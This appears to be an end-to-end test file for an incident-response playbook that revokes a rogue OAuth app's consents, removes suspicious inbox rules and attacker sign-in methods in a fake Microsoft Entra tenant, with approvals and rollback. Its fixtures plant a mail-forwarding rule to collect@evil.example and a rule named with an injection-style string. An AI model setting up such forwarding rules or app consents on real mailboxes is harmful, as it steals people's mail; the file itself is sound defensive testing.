// Evicting an attacker's foothold (oauth-consent-or-inbox-rule v2 and its actions), end to end on the
// real dev server: every Graph call goes through the real client libraries to the HTTPS fake, which
// keeps service principals, consents, app-role assignments, inbox rules and sign-in methods.
import { buildTimeline } from '../server/reports/timeline';
import { sampleAlert } from '../triggers/drill-alert';
import { alertBody, postSigned } from './helpers/reflex';
import { useEntraFake, useReflex } from './helpers/bootstrap';
import { decide, step, waitForState } from './helpers/incidents';
import type { EntraFake, FakeUser } from './fakes/entra-fake';

const fake = useEntraFake();
const reflex = useReflex(() => ({
  entra: fake,
  playbooks: ['oauth-consent-or-inbox-rule', 'notify-on-call'],
  contacts: {
    onCall: ['oncall@museum.example'],
    dpo: 'dpo@museum.example',
    drillRecipients: ['drills@museum.example'],
  },
}));

const GRAPH_RESOURCE = '00000003-0000-0000-c000-000000000000';
const minutesAgo = (n: number) => new Date(Date.now() - n * 60_000).toISOString();

/** A mailbox as an attacker leaves it: two rules of theirs, two of the owner's. */
function plantRules(f: EntraFake, user: FakeUser) {
  const forward = f.addRule(user, {
    displayName: '.',
    actions: {
      forwardTo: [{ emailAddress: { address: 'collect@evil.example' } }],
      stopProcessingRules: true,
    },
  });
  const hide = f.addRule(user, {
    displayName: "'; DROP hacked <b>x</b>",
    conditions: { subjectContains: ['hacked', 'phishing', 'wachtwoord'] },
    actions: { moveToFolder: f.folderId(user, 'RSS Feeds'), markAsRead: true },
  });
  const projects = f.addRule(user, {
    displayName: 'Projects',
    conditions: { subjectContains: ['project'] },
    actions: { moveToFolder: f.folderId(user, 'Projects') },
  });
  const colleague = f.addRule(user, {
    displayName: 'To my colleague',
    actions: { forwardTo: [{ emailAddress: { address: 'colleague@museum.example' } }] },
  });
  return { forward, hide, projects, colleague };
}

/** A rogue app with anna's and bob's consent, an application permission, and anna assigned to it. */
function plantApp(f: EntraFake, anna: FakeUser, bob: FakeUser, name = 'Mail Helper Pro') {
  const graph =
    f.servicePrincipals.get(GRAPH_RESOURCE) ??
    f.addServicePrincipal('Microsoft Graph', { id: GRAPH_RESOURCE });
  const app = f.addServicePrincipal(name);
  const annaGrant = f.addGrant({
    clientId: app.id,
    consentType: 'Principal',
    principalId: anna.id,
    resourceId: graph.id,
    scope: 'Mail.Read offline_access',
  });
  const bobGrant = f.addGrant({
    clientId: app.id,
    consentType: 'Principal',
    principalId: bob.id,
    resourceId: graph.id,
    scope: 'Mail.Read',
  });
  const appRole = f.addAssignment({
    principalId: app.id,
    principalType: 'ServicePrincipal',
    resourceId: graph.id,
    appRoleId: '810c84a8-4a9e-49e6-bf7d-12d183f40d01',
  });
  const annaAssigned = f.addAssignment({
    principalId: anna.id,
    principalType: 'User',
    resourceId: app.id,
    appRoleId: '00000000-0000-0000-0000-000000000000',
  });
  return { app, annaGrant, bobGrant, appRole, annaAssigned };
}

const snapshot = (f: EntraFake, user: FakeUser, appId: string) => ({
  rules: f
    .mailbox(user)
    .rules.map(({ id: _id, sequence: _s, ...r }) => r)
    .sort((a, b) => a.displayName.localeCompare(b.displayName)),
  grants: f.grants
    .filter((g) => g.clientId === appId)
    .map(({ id: _id, ...g }) => g)
    .sort((a, b) => String(a.principalId).localeCompare(String(b.principalId))),
  assignments: f.assignments
    .filter((a) => a.principalId === appId || a.resourceId === appId)
    .map(({ id: _id, ...a }) => a)
    .sort((a, b) => a.principalId.localeCompare(b.principalId)),
});

test('a consent alert: rules and the user consent go at once; the app and new sign-in methods after approval; a false positive puts everything back', async () => {
  fake.collectionPageSize = 2; // every collection comes in pages: nextLink is followed
  const anna = fake.addUser({ userPrincipalName: 'anna.p@museum.example' });
  const bob = fake.addUser({ userPrincipalName: 'bob.p@museum.example' });
  const rules = plantRules(fake, anna);
  const { app, bobGrant, appRole } = plantApp(fake, anna, bob);
  fake.addAuthMethod(anna, {
    '@odata.type': '#microsoft.graph.microsoftAuthenticatorAuthenticationMethod',
    displayName: "Anna's Pixel",
    createdDateTime: minutesAgo(60 * 24 * 200),
  });
  const attackerPhone = fake.addAuthMethod(anna, {
    '@odata.type': '#microsoft.graph.microsoftAuthenticatorAuthenticationMethod',
    displayName: 'iPhone 15',
    createdDateTime: minutesAgo(3),
  });
  fake.addAuthMethod(anna, {
    '@odata.type': '#microsoft.graph.phoneAuthenticationMethod',
    phoneNumber: '+31 6 12345678',
  });
  const before = snapshot(fake, anna, app.id);

  const response = await postSigned(
    reflex.url,
    alertBody({
      type: 'oauth-consent',
      severity: 'medium',
      title: 'Consent to application Mail Helper Pro',
      occurredAt: minutesAgo(10),
      entities: { users: ['anna.p@museum.example'], apps: ['Mail Helper Pro'] },
    }),
  );
  expect(response.body.incidents).toEqual([
    expect.objectContaining({ playbook: 'oauth-consent-or-inbox-rule' }),
  ]);
  const id = response.body.incidentId as string;

  // Pre-approved: sessions, the attacker's two rules, and anna's own consent and assignment.
  const asked = await waitForState(
    reflex.gateway,
    id,
    (s) => step(s, 'disable-app').status === 'awaiting-approval',
  );
  expect(anna.sessionsRevokedAt).toBeDefined();
  expect(
    fake
      .mailbox(anna)
      .rules.map((r) => r.id)
      .sort(),
  ).toEqual([rules.projects.id, rules.colleague.id].sort());
  const removedRules = step(asked, 'remove-inbox-rules').output as {
    removed: Array<{ rule: { id: string }; why: string[] }>;
    kept: number;
    notChecked: string[];
  };
  expect(removedRules.removed.map((r) => [r.rule.id, r.why])).toEqual(
    expect.arrayContaining([
      [rules.forward.id, ['forwards mail outside the organisation (to collect@evil.example)']],
      [rules.hide.id, ['moves mail to RSS Feeds']],
    ]),
  );
  expect(removedRules.kept).toBe(2);
  expect(removedRules.notChecked).toEqual([expect.stringMatching(/ForwardingSmtpAddress/)]);
  expect(fake.grants.filter((g) => g.clientId === app.id)).toEqual([bobGrant]);
  expect(fake.assignments.filter((a) => a.resourceId === app.id)).toEqual([]);
  expect(fake.assignments).toContainEqual(appRole); // the app's own permission is everyone's: it waits for approval
  expect(app.accountEnabled).toBe(true);
  expect(step(asked, 'list-sign-in-methods').output).toMatchObject({
    recent: [
      expect.objectContaining({ id: attackerPhone.id, kind: 'Microsoft Authenticator', name: 'iPhone 15' }),
    ],
    older: 1,
    undated: [expect.objectContaining({ kind: 'phone', name: '+31 6 12345678' })],
  });

  // On-call approves evicting the app: disabled (not deleted), then everything it was given revoked.
  await decide(reflex.gateway, id, 'disable-app', 'oncall@museum.example');
  await waitForState(
    reflex.gateway,
    id,
    (s) => step(s, 'remove-sign-in-methods').status === 'awaiting-approval',
  );
  expect(app.accountEnabled).toBe(false);
  expect(fake.servicePrincipals.has(app.id)).toBe(true);
  expect(fake.grants.filter((g) => g.clientId === app.id)).toEqual([]);
  expect(fake.assignments.filter((a) => a.principalId === app.id)).toEqual([]);

  // Removing sign-in methods always waits for a person; only the one registered since the alert goes.
  await decide(reflex.gateway, id, 'remove-sign-in-methods', 'oncall@museum.example');
  await waitForState(reflex.gateway, id, (s) => step(s, 'disable-account').status === 'awaiting-approval');
  expect(fake.authMethods.get(anna.id)!.map((m) => m.displayName ?? m.phoneNumber)).toEqual([
    "Anna's Pixel",
    '+31 6 12345678',
  ]);
  await decide(reflex.gateway, id, 'disable-account', 'oncall@museum.example', 'reject');
  const contained = await waitForState(reflex.gateway, id, (s) => s.status === 'contained');
  expect(contained.steps.filter((s) => s.status === 'failed')).toEqual([]);

  // The board's timeline says what was removed, in plain words; the attacker's rule name is only data.
  const events = await reflex.audit.events(id);
  const texts = buildTimeline(id, events, 'en', 'Europe/Amsterdam')!.entries.map((e) => e.text);
  expect(texts).toContainEqual(
    expect.stringMatching(
      /Removed 2 suspicious inbox rule\(s\) of anna\.p@museum\.example: .*collect@evil\.example.*RSS Feeds.*; a copy is kept\./,
    ),
  );
  expect(texts).toContainEqual(
    expect.stringContaining(
      'Revoked from Mail Helper Pro: 1 consent(s), 0 application permission(s), 1 assignment(s); a copy is kept.',
    ),
  );
  expect(texts).toContainEqual(expect.stringContaining('Mail Helper Pro is disabled (not deleted).'));
  expect(texts).toContainEqual(
    expect.stringContaining(
      'Removed from anna.p@museum.example: Microsoft Authenticator "iPhone 15". Left alone, no date: phone "+31 6 12345678".',
    ),
  );
  const nl = buildTimeline(id, events, 'nl', 'Europe/Amsterdam')!.entries.map((e) => e.text);
  expect(nl).toContainEqual(expect.stringContaining('Mail Helper Pro is uitgeschakeld (niet verwijderd).'));

  // A false positive: the app enabled, its grants and assignments and the rules put back as they were.
  await reflex.gateway.resolve(id, {
    as: 'false-positive',
    by: 'oncall@museum.example',
    note: 'a tool IT installed',
  });
  expect(app.accountEnabled).toBe(true);
  expect(snapshot(fake, anna, app.id)).toEqual(before);
  const kinds = (await reflex.audit.events(id)).map((e) => e.kind);
  expect(kinds.filter((k) => k === 'step.compensated')).toHaveLength(4);
  expect(kinds).not.toContain('step.compensation-failed');
  expect((await reflex.audit.verify(id)).ok).toBe(true);
  fake.collectionPageSize = 1000;
}, 60_000);

test('a retried removal still reports, and can restore, the rules an earlier attempt removed', async () => {
  const carl = fake.addUser({ userPrincipalName: 'carl.p@museum.example' });
  const rules = plantRules(fake, carl);
  // The second rule's removal fails with a server error after the first was removed: Temporal retries.
  fake.fail({ method: 'DELETE', path: new RegExp(`messageRules/${rules.hide.id}$`), status: 503 });
  const response = await postSigned(
    reflex.url,
    alertBody({ type: 'inbox-rule', severity: 'low', entities: { users: ['carl.p@museum.example'] } }),
  );
  const id = response.body.incidentId as string;
  const state = await waitForState(
    reflex.gateway,
    id,
    (s) => step(s, 'remove-inbox-rules').status === 'succeeded',
  );
  const output = step(state, 'remove-inbox-rules').output as { removed: Array<{ rule: { id: string } }> };
  expect(output.removed.map((r) => r.rule.id).sort()).toEqual([rules.forward.id, rules.hide.id].sort());
  const deletes = fake
    .graphCalls()
    .filter(
      (c) =>
        c.method === 'DELETE' && c.path.includes('carl.p%40museum.example/mailFolders/inbox/messageRules'),
    );
  // The retry found the first rule gone (404 counts as done) and still reports it.
  expect(deletes.map((c) => c.status)).toEqual([204, 503, 404, 204]);
  await reflex.gateway.resolve(id, { as: 'false-positive', by: 'oncall@museum.example' });
  expect(
    fake
      .mailbox(carl)
      .rules.map((r) => r.displayName)
      .sort(),
  ).toEqual(['.', "'; DROP hacked <b>x</b>", 'Projects', 'To my colleague'].sort());
}, 60_000);

test('without Mail.ReadBasic.All, forwarding rules still go and the incident says moves were not judged', async () => {
  const erik = fake.addUser({ userPrincipalName: 'erik.p@museum.example' });
  const rules = plantRules(fake, erik);
  fake.fail({
    method: 'GET',
    path: /erik\.p%40museum\.example\/mailFolders\/deleteditems$/,
    status: 403,
    code: 'ErrorAccessDenied',
  });
  const response = await postSigned(
    reflex.url,
    alertBody({ type: 'inbox-rule', severity: 'low', entities: { users: ['erik.p@museum.example'] } }),
  );
  const id = response.body.incidentId as string;
  const state = await waitForState(
    reflex.gateway,
    id,
    (s) => step(s, 'remove-inbox-rules').status === 'succeeded',
  );
  expect(step(state, 'remove-inbox-rules').output).toMatchObject({
    removed: [expect.objectContaining({ rule: expect.objectContaining({ id: rules.forward.id }) })],
    notChecked: [
      expect.stringMatching(/ForwardingSmtpAddress/),
      expect.stringMatching(/needs Mail\.ReadBasic\.All/),
    ],
  });
  expect(fake.mailbox(erik).rules.map((r) => r.id)).toContain(rules.hide.id);
}, 60_000);

test("an app named by an attacker's copy of a name, or one of Microsoft's own, is left to a person", async () => {
  fake.addServicePrincipal("Contoso's Files & Co #1"); // a quote, an ampersand and a hash reach the filter intact
  fake.addServicePrincipal('Outlook Sync');
  fake.addServicePrincipal('Outlook Sync');
  fake.addServicePrincipal('Office 365 Exchange Online', {
    appOwnerOrganizationId: 'f8cdef31-a31e-4b4a-93e4-5f571e91255a',
  });
  const users: FakeUser[] = [];
  const outcome = async (app: string) => {
    // One user per alert: alerts about one account join one incident.
    const user = fake.addUser({ userPrincipalName: `dana${users.length}.p@museum.example` });
    users.push(user);
    const response = await postSigned(
      reflex.url,
      alertBody({
        type: 'oauth-consent',
        severity: 'medium',
        entities: { users: [user.userPrincipalName], apps: [app] },
      }),
    );
    const id = response.body.incidentId as string;
    await waitForState(reflex.gateway, id, (s) => step(s, 'disable-app').status === 'awaiting-approval');
    await decide(reflex.gateway, id, 'disable-app', 'oncall@museum.example');
    return step(
      await waitForState(
        reflex.gateway,
        id,
        (x) => !['pending', 'running', 'awaiting-approval'].includes(step(x, 'disable-app').status),
      ),
      'disable-app',
    );
  };
  expect(await outcome("Contoso's Files & Co #1")).toMatchObject({
    status: 'succeeded',
    output: { displayName: "Contoso's Files & Co #1" },
  });
  expect(await outcome('Outlook Sync')).toMatchObject({
    status: 'failed',
    error: expect.stringMatching(/^ApplicationAmbiguous: 2 applications are named "Outlook Sync"/),
  });
  expect(await outcome('Office 365 Exchange Online')).toMatchObject({
    status: 'failed',
    error: expect.stringMatching(/^FirstPartyApplication: .*one of Microsoft's own applications/),
  });
  expect(
    [...fake.servicePrincipals.values()].filter((sp) => !sp.accountEnabled).map((sp) => sp.displayName),
  ).toEqual(["Contoso's Files & Co #1"]);
  expect(users.map((u) => u.accountEnabled)).toEqual([true, true, true]);
}, 90_000);

test('a drill of the revised playbook describes every call and makes none', async () => {
  const playbook = reflex.playbooks.find((p) => p.definition.id === 'oauth-consent-or-inbox-rule')!;
  const before = fake.graphCalls().length;
  const id = await reflex.gateway.drill(playbook, sampleAlert(playbook));
  await waitForState(reflex.gateway, id, (s) => step(s, 'disable-app').status === 'awaiting-approval');
  await decide(reflex.gateway, id, 'disable-app', 'drills@museum.example');
  const done = await waitForState(
    reflex.gateway,
    id,
    (s) => s.status === 'contained',
    'the drill to finish',
    60_000,
  );
  expect(done.steps.map((s) => [s.id, s.status])).toEqual([
    ['revoke-sessions', 'succeeded'],
    ['remove-inbox-rules', 'succeeded'],
    ['revoke-user-consent', 'succeeded'],
    ['list-sign-in-methods', 'succeeded'],
    ['notify-on-call', 'succeeded'],
    ['disable-app', 'succeeded'],
    ['revoke-app-grants', 'succeeded'],
    ['remove-sign-in-methods', 'skipped'],
    ['disable-account', 'skipped'],
  ]);
  for (const s of done.steps.filter((x) => x.kind === 'action' && x.status === 'succeeded')) {
    expect(s.output).toMatchObject({ dryRun: true });
  }
  expect(fake.graphCalls().length).toBe(before);
}, 90_000);
